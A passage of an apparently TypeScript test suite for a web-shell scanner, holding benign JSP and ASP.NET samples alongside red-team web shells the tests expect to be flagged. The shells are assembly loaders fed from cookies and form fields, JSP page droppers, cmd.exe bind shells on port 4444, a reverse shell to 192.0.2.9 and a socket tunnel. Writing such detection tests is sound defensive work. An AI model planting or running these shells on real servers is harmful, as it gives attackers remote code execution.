    try (PrintWriter w = new PrintWriter(new FileWriter(application.getRealPath("/WEB-INF/feedback.csv"), true))) {
      w.print(new Date() + ",");
      w.println(request.getParameter("comment").replace(",", " ").replace("\\n", " "));
    }
  }
%>
<html><body>
<p>Site last updated <%= new Date(home.lastModified()) %></p>
<form method="post"><textarea name="comment"></textarea><button>Send</button></form>
</body></html>
`],
  ['S29R-17: a CMS page publishing a cleaned slug as .html', '/www/admin/publish.jsp', `<%@ page import="java.io.*" %>
<%
  // CMS: publish a static page. The slug is reduced to [a-z0-9-], the page is written as .html.
  if (request.getParameter("slug") != null) {
    String path = application.getRealPath("/pages/") + File.separator + request.getParameter("slug").toLowerCase().replaceAll("[^a-z0-9-]", "") + ".html";
    try (Writer w = new OutputStreamWriter(new FileOutputStream(path), "UTF-8")) {
      w.write("<!doctype html><meta charset=utf-8><title>" + request.getParameter("title").replace("<", "&lt;") + "</title>\\n");
      w.write(request.getParameter("body"));
    }
    response.sendRedirect("pages/");
  }
%>
`],
  ['S29R-18: an admin page editing the .properties bundle of a language', '/www/admin/i18n.jsp', `<%@ page import="java.io.*" %>
<%
  // Admin: edit one language's message bundle
  String lang = request.getParameter("lang");
  if (lang != null && lang.matches("[a-z]{2}") && request.getParameter("content") != null) {
    String file = application.getRealPath("/WEB-INF/classes") + "/messages_" + request.getParameter("lang") + ".properties";
    try (PrintWriter pw = new PrintWriter(new OutputStreamWriter(new FileOutputStream(file), "ISO-8859-1"))) {
      pw.print(request.getParameter("content"));
    }
  }
%>
<form method="post"><input name="lang"><textarea name="content"></textarea><button>Save</button></form>
`],
  ['S29R-14: a validated 3.6 KB upload page (whitelist, size limit, GUID name)', '/www/hr/upload.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    // Document upload for the HR portal: PDFs and Office files only, 10 MB, stored under a new name.
    static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx", ".pptx" };
    const int MaxBytes = 10 * 1024 * 1024;

    protected void Upload_Click(object sender, EventArgs e)
    {
        if (!FileUpload1.HasFile) { Msg.Text = "Choose a file first."; return; }
        string ext = Path.GetExtension(FileUpload1.FileName).ToLowerInvariant();
        if (Array.IndexOf(Allowed, ext) < 0) { Msg.Text = "Only PDF and Office documents are accepted."; return; }
        if (FileUpload1.PostedFile.ContentLength > MaxBytes) { Msg.Text = "The file is larger than 10 MB."; return; }
        string stored = Guid.NewGuid().ToString("N") + ext;
        FileUpload1.SaveAs(Server.MapPath("~/App_Data/hr-docs/") + stored);
        Log(stored, FileUpload1.FileName);
        Msg.Text = "Thank you, your document was received.";
    }

    void Log(string stored, string original)
    {
        File.AppendAllText(Server.MapPath("~/App_Data/hr-docs/index.csv"),
            DateTime.UtcNow.ToString("o") + "," + stored + "," + original.Replace(",", " ") + "," + User.Identity.Name + Environment.NewLine);
    }
</script>
<!DOCTYPE html>
<html>
<head runat="server">
    <title>Upload a document</title>
    <link rel="stylesheet" href="~/css/portal.css" />
</head>
<body>
    <form id="form1" runat="server">
        <div class="panel">
            <h1>Upload a document</h1>
            <p>Send us your signed contract, your ID scan or other documents requested by HR.
               Accepted formats: PDF, Word, Excel, PowerPoint. Maximum size 10 MB.</p>
            <asp:FileUpload ID="FileUpload1" runat="server" />
            <asp:Button ID="Upload" runat="server" Text="Upload" OnClick="Upload_Click" />
            <p><asp:Label ID="Msg" runat="server" /></p>
        </div>
        <ol class="help">
            <li>Step 1: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 2: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 3: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 4: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 5: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 6: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 7: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 8: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
            <li>Step 9: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
        </ol>
        <div class="footer">
            <p>Documents are kept for the period required by law and then deleted.
               Questions? Write to hr@example.com.</p>
        </div>
    </form>
</body>
</html>
`],
  ['S29R-12: an App_Code upload helper with a whitelist and a GUID name', '/www/App_Code/UploadHelper.cs', `using System;
using System.IO;
using System.Web;

/// <summary>Saves images posted by the gallery pages: extension whitelist, size limit, random name.</summary>
public static class UploadHelper
{
    static readonly string[] Allowed = { ".jpg", ".jpeg", ".png", ".gif" };
    const int MaxBytes = 4 * 1024 * 1024;

    public static string SaveImage(HttpPostedFile file)
    {
        if (file == null || file.ContentLength == 0) throw new ArgumentException("no file");
        if (file.ContentLength > MaxBytes) throw new ArgumentException("file too large");
        string ext = Path.GetExtension(file.FileName).ToLowerInvariant();
        if (Array.IndexOf(Allowed, ext) < 0) throw new ArgumentException("only images may be uploaded");
        if (!file.ContentType.StartsWith("image/")) throw new ArgumentException("not an image");
        string name = Guid.NewGuid().ToString("N") + ext;
        file.SaveAs(HttpContext.Current.Server.MapPath("~/uploads/gallery/") + name);
        return name;
    }
}
`],
];

// The red team's working variants of the session's first rules (bench/redteam/README-s29.md), caught now:
// [what, the rule, path, the file]
const RED_TEAM: [string, string, string, string][] = [
  ['S29R-22: asm_alc.cshtml', 'mamori_aspx_assembly_load', '/www/asm_alc.cshtml', `@using System.Runtime.Loader
@{
    var body = new System.IO.MemoryStream();
    await Context.Request.Body.CopyToAsync(body);
    body.Position = 0;
    var asm = AssemblyLoadContext.Default.LoadFromStream(body);
    asm.CreateInstance("U")?.Equals(Context);
}
`],
  ['S29R (variant): asm_cookie.aspx', 'mamori_aspx_assembly_load', '/www/asm_cookie.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var c = Request.Cookies["k"];
  if (c == null) return;
  byte[] b = Convert.FromBase64String(c.Value);
  System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R-19: asm_cookie_urldecode.aspx', 'mamori_aspx_assembly_load', '/www/asm_cookie_urldecode.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  System.Reflection.Assembly.Load(Convert.FromBase64String(HttpUtility.UrlDecode(Request.Cookies["k"].Value))).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R (variant): asm_dom_field.aspx', 'mamori_aspx_assembly_load', '/www/asm_dom_field.aspx', `<%@ Page Language="C#" %>
<script runat="server">
static readonly AppDomain Dom = AppDomain.CurrentDomain;
void Page_Load(object o, EventArgs e) {
  byte[] b = Convert.FromBase64String(Request.Form["k"]);
  var a = Dom.Load(b);
  a.CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R (variant): asm_loadv_member.aspx', 'mamori_aspx_assembly_load', '/www/asm_loadv_member.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var dom = AppDomain.CurrentDomain;
  byte[] b = Convert.FromBase64String(Request.Form["k"]);
  var asm = dom.Load(b);
  asm.CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R-21: asm_reflect_invoke.aspx', 'mamori_aspx_reflective_assembly_load', '/www/asm_reflect_invoke.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var k = Context.Request.Cookies["k"].Value;
  var t = typeof(System.Reflection.Assembly);
  var a = t.GetMethod("Lo" + "ad", new[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(k) });
  a.GetType().GetMethod("CreateInstance", new[] { typeof(string) }).Invoke(a, new object[] { "U" });
}
</script>
`],
  ['S29R (variant): asm_urldecode.aspx', 'mamori_aspx_assembly_load', '/www/asm_urldecode.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var d = Thread.GetDomain();
  var a = d.Load(Convert.FromBase64String(HttpUtility.UrlDecode(Context.Request.Cookies["k"].Value)));
  a.CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R-25: asmfile_copyto.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_copyto.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = System.IO.Path.GetTempFileName();
  using (var fs = System.IO.File.Create(p)) Request.InputStream.CopyTo(fs);
  System.Reflection.Assembly.LoadFrom(p).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R-24: asmfile_createinstancefrom.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_createinstancefrom.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = System.IO.Path.GetTempFileName();
  System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["k"]));
  Activator.CreateInstanceFrom(p, "U").Unwrap().Equals(this);
}
</script>
`],
  ['S29R-23: asmfile_executeassembly.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_executeassembly.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = System.IO.Path.GetTempFileName() + ".exe";
  System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["k"]));
  AppDomain.CurrentDomain.ExecuteAssembly(p);
}
</script>
`],
  ['S29R-27: asmfile_multiline.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_multiline.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = System.IO.Path.GetTempFileName();
  System.IO.File.WriteAllBytes(
      p,
      Convert.FromBase64String(Request.Form["k"]));
  System.Reflection.Assembly.LoadFile(p).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R-26: asmfile_upload.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_upload.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  if (Request.Files.Count == 0) return;
  string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".dll");
  Request.Files[0].SaveAs(p);
  System.Reflection.Assembly.LoadFrom(p).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R (variant): asmfile_var.aspx', 'mamori_aspx_request_assembly_file', '/www/asmfile_var.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = System.IO.Path.GetTempFileName();
  string data = Request.Form["k"];
  byte[] bytes = Convert.FromBase64String(data);
  System.IO.File.WriteAllBytes(p, bytes);
  System.Reflection.Assembly.LoadFile(p).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R (variant): com_cookie.asp', 'mamori_asp_com_dotnet_loader', '/www/com_cookie.asp', `<%
' input from a cookie: $in only knows Request(, Request.Form(, .QueryString(, .Item(, .BinaryRead(
Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
x.DataType = "bin.base64"
x.Text = Request.Cookies("d")
Set d = CreateObject("System.AppDomain").CurrentDomain
Set asm = d.Load_3(x.NodeTypedValue)
asm.CreateInstance("Q").Equals(Nothing)
%>
`],
  ['S29R-28: com_formitem.asp', 'mamori_asp_com_dotnet_loader', '/www/com_formitem.asp', `<%
Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
x.DataType = "bin.base64"
x.Text = Request.Form.Item("d")
Set d = CreateObject("System.AppDomain").CurrentDomain
Set asm = d.Load_3(x.NodeTypedValue)
asm.CreateInstance("Q").Equals(Nothing)
%>
`],
  ['S29R-30: com_jscript_activex.asp', 'mamori_asp_com_dotnet_loader', '/www/com_jscript_activex.asp', `<%@ Language="JScript" %>
<%
var x = new ActiveXObject("MSXML2.DOMDocument").createElement("b");
x.dataType = "bin.base64"; x.text = Request.Form("d");
var d = new ActiveXObject("System.AppDomain").CurrentDomain;
var asm = d.Load_3(x.nodeTypedValue);
asm.CreateInstance("Q");
%>
`],
  ['S29R-31: com_jscript_squote.asp', 'mamori_asp_com_dotnet_loader', '/www/com_jscript_squote.asp', `<%@ Language="JScript" %>
<%
var x = Server.CreateObject('MSXML2.DOMDocument').createElement('b');
x.dataType = 'bin.base64'; x.text = Request.Form('d');
var d = Server.CreateObject('System.AppDomain').CurrentDomain;
var asm = d['Load_3'](x.nodeTypedValue);
asm.CreateInstance('Q');
%>
`],
  ['S29R-29: com_servervar.asp', 'mamori_asp_com_dotnet_loader', '/www/com_servervar.asp', `<%
Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
x.DataType = "bin.base64"
x.Text = Request.ServerVariables("HTTP_X_DATA")
Set d = CreateObject("System.AppDomain").CurrentDomain
Set asm = d.Load_3(x.NodeTypedValue)
asm.CreateInstance("Q").Equals(Nothing)
%>
`],
  ['S29R-34: com_unsafedeser.asp', 'mamori_asp_com_dotnet_loader', '/www/com_unsafedeser.asp', `<%
Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
x.DataType = "bin.base64" : x.Text = Request.Form("p")
Set stm = CreateObject("System.IO.MemoryStream")
stm.Write_2 x.NodeTypedValue, 0, LenB(x.NodeTypedValue)
stm.Position = 0
Set fmt = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")
Set d = fmt.UnsafeDeserialize(stm, Nothing)
d.DynamicInvoke(Array()).CreateInstance("Q")
%>
`],
  ['S29R (variant): jsp_ext_const.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_ext_const.jsp', `<%@ page import="java.io.*" %>
<%!
  static final String EXT = ".jsp";
%>
<%
  File f = new File(application.getRealPath("/"), Long.toHexString(System.nanoTime()) + EXT);
  try (FileOutputStream o = new FileOutputStream(f)) {
    o.write(java.util.Base64.getDecoder().decode(request.getParameter("d")));
  }
  out.print(f.getName());
%>
`],
  ['S29R (variant): jsp_jspx_upper.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_jspx_upper.jsp', `<%@ page import="java.io.*,java.nio.file.*" %>
<%
  Path p = Paths.get(application.getRealPath("/"), "s" + System.nanoTime() + ".js" + "px".substring(1));
  Files.write(p, java.util.Base64.getDecoder().decode(request.getParameter("d")));
  out.print(p.getFileName());
%>
`],
  ['S29R (variant): jsp_multiline.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_multiline.jsp', `<%@ page import="java.io.*" %>
<%
  File f = new File(application.getRealPath("/"),
                    System.nanoTime() + ".jsp");
  try (FileOutputStream o = new FileOutputStream(f)) {
    o.write(java.util.Base64.getDecoder().decode(request.getParameter("d")));
  }
  out.print(f.getName());
%>
`],
  ['S29R (variant): jsp_resolve.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_resolve.jsp', `<%@ page import="java.io.*,java.nio.file.*" %>
<%
  Path root = Paths.get(application.getRealPath("/"));
  Path p = root.resolve(Long.toString(System.nanoTime(), 36) + ".jsp");
  Files.write(p, java.util.Base64.getDecoder().decode(request.getParameter("d")));
  out.print(p.getFileName());
%>
`],
  ['S29R-48: jsp_sb.jsp', 'mamori_jsp_request_page_dropper', '/www/jsp_sb.jsp', `<%@ page import="java.io.*" %>
<%
  String name = new StringBuilder(application.getRealPath("/")).append(File.separator).append(System.nanoTime()).append(".jsp").toString();
  try (FileOutputStream o = new FileOutputStream(name)) {
    o.write(java.util.Base64.getDecoder().decode(request.getParameter("d")));
  }
  out.print(name);
%>
`],
  ['S29R (variant): site/App_Code/Loader.CS', 'mamori_aspx_assembly_load', '/www/App_Code/Loader.CS', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  System.Reflection.Assembly.Load(Convert.FromBase64String(Context.Request.Form.Get("k"))).CreateInstance("U").Equals(Context);
}
</script>
`],
  ['S29R (variant): site/Health.svc', 'mamori_aspx_assembly_load', '/www/Health.svc', `<%@ ServiceHost Language="C#" Debug="false" Service="Health" %>
using System;
using System.ServiceModel;
using System.ServiceModel.Web;
using System.Web;

[ServiceContract]
public class Health
{
    [OperationContract, WebInvoke(Method = "POST", UriTemplate = "ping")]
    public string Ping()
    {
        System.Reflection.Assembly.Load(Convert.FromBase64String(HttpContext.Current.Request.Form["k"])).CreateInstance("U").Equals(this);
        return "ok";
    }
}
`],
  ['S29R-57: site/Status.aspx.cs', 'mamori_aspx_assembly_load', '/www/Status.aspx.cs', `using System;
using System.Web.UI;

public partial class Status : Page
{
    protected void Page_Load(object sender, EventArgs e)
    {
        System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this);
    }
}
`],
  ['S29R (variant): smallsite/App_Code/DataLayer.cs', 'mamori_aspx_assembly_load', '/www/App_Code/DataLayer.cs', `using System;
using System.Web;
public static class BigRepo {

  public static void Warm(HttpContext ctx) {
    var dom = AppDomain.CurrentDomain;
    byte[] b = Convert.FromBase64String(ctx.Request.Form["k"]);
    var asm = dom.Load(b);
    asm.CreateInstance("U").Equals(ctx);
  }
}
`],
  ['S29R-37: sock_basestream.aspx', 'mamori_aspx_socket_shell', '/www/sock_basestream.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
  var c = l.AcceptTcpClient(); var ns = c.GetStream();
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.Start();
  var t = p.StandardOutput.BaseStream.CopyToAsync(ns);
  ns.CopyTo(p.StandardInput.BaseStream);
}
</script>
`],
  ['S29R-35: sock_notfalse.aspx', 'mamori_aspx_socket_shell', '/www/sock_notfalse.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
  var c = l.AcceptTcpClient(); var ns = c.GetStream();
  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = !false; p.StartInfo.RedirectStandardOutput = !false;
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
  p.Start(); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['S29R-39: sock_rawbind.aspx', 'mamori_aspx_socket_shell', '/www/sock_rawbind.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Bind(new IPEndPoint(IPAddress.Any, 4444)); s.Listen(1);
  var ns = new NetworkStream(s.Accept()); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
  p.Start(); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['S29R-40: sock_server_accept.aspx', 'mamori_aspx_socket_shell', '/www/sock_server_accept.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
  var ns = new NetworkStream(l.Server.Accept(), true); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
  p.Start(); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['S29R-38: sock_stdin_var.aspx', 'mamori_aspx_socket_shell', '/www/sock_stdin_var.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
  var c = l.AcceptTcpClient(); var ns = c.GetStream();
  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
  p.Start(); p.BeginOutputReadLine();
  var stdin = p.StandardInput;
  for (string line; (line = rd.ReadLine()) != null; ) stdin.WriteLine(line);
}
</script>
`],
  ['S29R-20: asm_query_unescape.aspx', 'mamori_aspx_assembly_load', '/www/asm_query_unescape.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  System.Reflection.Assembly.Load(Convert.FromBase64String(Uri.UnescapeDataString(Request.Url.Query.TrimStart('?')))).CreateInstance("U").Equals(this);
}
</script>
`],
  ['S29R-36: sock_rev_reflect.aspx', 'mamori_aspx_socket_shell', '/www/sock_rev_reflect.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var c = new TcpClient(); c.Connect("192.0.2.9", 443); var ns = c.GetStream();
  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var psi = new ProcessStartInfo("cmd.exe") { UseShellExecute = false, RedirectStandardInput = 1 > 0, RedirectStandardOutput = 1 > 0 };
  var p = Process.Start(psi);
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['S29R-45: tun_files_stream.aspx', 'mamori_aspx_request_socket_tunnel', '/www/tun_files_stream.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var c = new TcpClient(); c.Connect(Request.Form["h"], int.Parse(Request.Form["p"]));
  var ns = c.GetStream();
  Request.Files[0].InputStream.CopyTo(ns);
  ns.ReadTimeout = 2000;
  var buf = new byte[65536]; int n = 0;
  try { n = ns.Read(buf, 0, buf.Length); } catch (IOException) { }
  Response.OutputStream.Write(buf, 0, n);
}
</script>
`],
];

describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of UPLOADERS) {
    it(`suspicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'suspicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === 'mamori_asp_tiny_uploader'), JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`clean: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
    });
  }
  it('App_Code\'s C# is read as ASP.NET code; the same module elsewhere is not', () => {
    const mod = MALICIOUS.find(([, , p]) => p.endsWith('App_Code/Mod.cs'))![3];
    assert.equal(scan(mod, '/www/App_Code/Mod.cs').kind, 'asp');
    assert.equal(scan(mod, '/www/app_code/sub/Mod.cs').kind, 'asp');
    assert.equal(scan(mod, 'C:\\inetpub\\site\\App_Code\\Mod.cs').kind, 'asp');
    const elsewhere = scan(mod, '/home/dev/src/Mod.cs');
    assert.equal(elsewhere.kind, 'other');
    assert.ok(!elsewhere.findings.some((f) => f.rule.startsWith('mamori_asp')), JSON.stringify(elsewhere.findings));
  });
  it('a file whose judging throws is suspicious and says why, not clean', () => {
    const data = Buffer.from('<%@ Page Language="C#" %><% Response.Write(1); %>', 'latin1');
    // (the analysis reads the text through toString; the bytes are hashed without it)
    data.toString = () => {
      throw new Error('boom');
    };
    const r = scanner.scanBuffer(data, '/www/x.aspx');
    assert.equal(r.verdict, 'suspicious');
    assert.ok(r.findings.some((f) => f.rule === 'mamori:scan-failed' && f.description.includes('boom')), JSON.stringify(r.findings));
    assert.match(r.sha256, /^[0-9a-f]{64}$/);
  });
  for (const [name, rule, path, src] of RED_TEAM) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  it('ran every case', () => {
    assert.equal(RED_TEAM.length, 36);
    assert.equal(MALICIOUS.length, 26);
    assert.equal(UPLOADERS.length, 2);
    assert.equal(BENIGN.length, 23);
  });
});
